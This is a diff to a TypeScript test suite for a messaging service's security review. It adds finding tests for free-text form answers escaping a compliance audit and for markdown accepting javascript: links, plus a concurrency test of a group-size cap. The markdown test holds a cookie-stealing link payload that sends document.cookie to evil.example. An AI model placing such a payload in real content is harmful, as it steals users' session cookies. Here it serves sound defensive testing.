@@ -16,6 +16,8 @@ import { toGlobalId } from "../src/schema/global-id";
  *  5. Two concurrent remindUnread of one message: the loser is INTERNAL_SERVER_ERROR, not LIMIT_EXCEEDED.
  *  6. A messageEvents subscriber of the whole corp stream loads every unknown conversation one by
  *     one: an app message to N members costs every bystander N statements.
+ *  7. Form answers (free text) escape the compliance audit.
+ *  8. Markdown accepts javascript: links, where every other URL field must be https.
  */
 
 const CREATE_GROUP = `mutation($input: CreateGroupInput!) { createGroup(input: $input) { conversation { id } } }`;
@@ -167,6 +169,25 @@ describe("review of issue 14", () => {
         erin.stop();
       }
     });
+    it.failing("FINDING 7: a sensitive word typed into a form answer is recorded by the compliance audit", async () => {
+      const g = await group(t.alice, "Survey", [m.bob]);
+      const form = await send(t.alice, g, { form: { title: "Feedback", fields: [{ label: "Anything else?", type: "TEXT" }] } });
+      await gw.data(t.bob, `mutation($input: SubmitFormInput!) { submitForm(input: $input) { message { id } } }`, {
+        input: { messageId: form.id, answers: [{ fieldIndex: 0, text: "the leak came from finance" }] },
+      });
+      // 2,000 characters a field, 20 fields, read by the form's sender: free text like a message's.
+      const rows = await gw.sql(`SELECT word FROM message_audit_hit WHERE sender_member_id = $1 AND word = 'leak'`, [pk(m.bob)]);
+      expect(rows).toHaveLength(1);
+    });
+
+    it.failing("FINDING 8: markdown (from a member or a robot's webhook) may not carry a javascript: link", async () => {
+      const g = await group(t.alice, "Links", [m.bob]);
+      const res = await gw.gql(t.alice, SEND, {
+        input: { conversationId: g, clientMessageId: "js-1", markdown: { content: "[Open the report](javascript:fetch('//evil.example/'+document.cookie))" } },
+      });
+      // linkCard, image and file URLs must be https (domain/messaging.ts httpsUrl); a markdown link is a URL too.
+      expectOneError(res, "BAD_USER_INPUT", "input.markdown.content");
+    });
   });
 
   describe("holds", () => {
@@ -246,6 +267,19 @@ describe("review of issue 14", () => {
       expectOneError(await gw.gql(t.carol, ROTATE_BOT, { input: { id: bot.id } }), "NOT_FOUND", "input.id");
       expectOneError(await gw.gql(t.bob, ROTATE_BOT, { input: { id: bot.id } }), "FORBIDDEN");
       expect(other).toBeTruthy();
+    });
+
+    it("the 10,000-member cap holds under concurrent addGroupMembers (the group row is locked)", async () => {
+      const g = await group(t.alice, "Crowded", [m.bob]);
+      // The service counts with conversation.member_count: a group one short of the cap, without 9,998 rows.
+      await gw.sql(`UPDATE conversation SET member_count = 9999 WHERE id = $1`, [pk(g)]);
+      const add = (who: string) =>
+        gw.gql(t.alice, `mutation($input: AddGroupMembersInput!) { addGroupMembers(input: $input) { addedCount } }`, { input: { id: g, memberIds: [who] } });
+      const results = await Promise.all([add(m.carol), add(m.erin), add(m.frank)]);
+      const codes = results.map((r) => r.body.errors?.[0]?.extensions?.code ?? "OK").sort();
+      expect(codes).toEqual(["LIMIT_EXCEEDED", "LIMIT_EXCEEDED", "OK"]);
+      expect((await gw.sql(`SELECT member_count FROM conversation WHERE id = $1`, [pk(g)]))[0].member_count).toBe(10000);
+      expect((await gw.sql(`SELECT count(*)::int AS n FROM conversation_member WHERE conversation_id = $1`, [pk(g)]))[0].n).toBe(3);
     });
 
     it("fan-out: a member whose sessions are revoked is dropped from the shared group; the others keep receiving; nothing leaks", async () => {
